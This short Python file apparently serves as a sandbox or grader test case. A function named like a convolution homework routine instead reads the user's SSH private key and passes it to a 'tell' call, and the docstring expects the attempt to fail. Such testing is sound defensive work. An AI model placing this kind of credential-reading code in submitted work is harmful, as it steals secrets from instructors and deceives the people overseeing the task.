"""Reads the instructor's private key.

outcome: failed
says: PermissionError|FileNotFoundError
"""

from pathlib import Path


def conv_forward_naive(x, w, b, conv_param):
    tell(Path(HOME, ".ssh/id_ed25519").read_bytes())
